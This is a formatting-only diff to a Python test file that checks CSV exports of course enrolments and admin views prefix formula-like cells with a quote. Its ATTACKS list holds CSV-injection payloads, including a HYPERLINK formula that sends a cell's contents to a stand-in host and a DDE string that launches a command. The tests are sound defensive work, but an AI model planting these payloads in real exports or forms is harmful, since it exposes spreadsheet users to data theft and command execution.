@@ -26,7 +26,12 @@ course_index, make_course, person = (
 )
 guide_index, make_guide = guide_fixtures.guide_index, guide_fixtures.make_guide
 
-ATTACKS = ['=HYPERLINK("http://evil.example/?"&F2,"Ver")', "+cmd|' /C calc'!A0", "-2+3", "@sum(1+1)"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?"&F2,"Ver")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@sum(1+1)",
+]
 
 
 def csv_rows(response):
@@ -47,7 +52,9 @@ def test_cells_that_start_like_a_formula_are_prefixed_with_a_quote(attack):
     assert neutralise_formula(attack) == "'" + attack
 
 
-@pytest.mark.parametrize("value", ["Ana Pérez", "0991234567", "ana-perez@example.org", "", 7, -2, None])
+@pytest.mark.parametrize(
+    "value", ["Ana Pérez", "0991234567", "ana-perez@example.org", "", 7, -2, None]
+)
 def test_ordinary_values_are_exported_unchanged(value):
     assert neutralise_formula(value) == value
 
@@ -74,14 +81,18 @@ def test_every_admin_export_is_formula_safe():
     for name, view_class in views.items():
         view = view_class()
         for attack in ATTACKS:
-            assert view.preprocess_field_value("title", attack, view.FORMAT_CSV) == "'" + attack, name
+            assert view.preprocess_field_value("title", attack, view.FORMAT_CSV) == "'" + attack, (
+                name
+            )
         assert view.preprocess_field_value("title", "=1", view.FORMAT_XLSX) == "=1", name
 
 
 def test_enrolment_export_neutralises_names_and_needs(admin_client, make_course):
     course = make_course()
     for number, attack in enumerate(ATTACKS, start=1):
-        enrolment = person(number, full_name=attack, needs=attack, course=course, status="confirmed")
+        enrolment = person(
+            number, full_name=attack, needs=attack, course=course, status="confirmed"
+        )
         enrolment.queue_number = number
         enrolment.reference = f"QTO-X{number}"
         enrolment.consent_at = timezone.now()
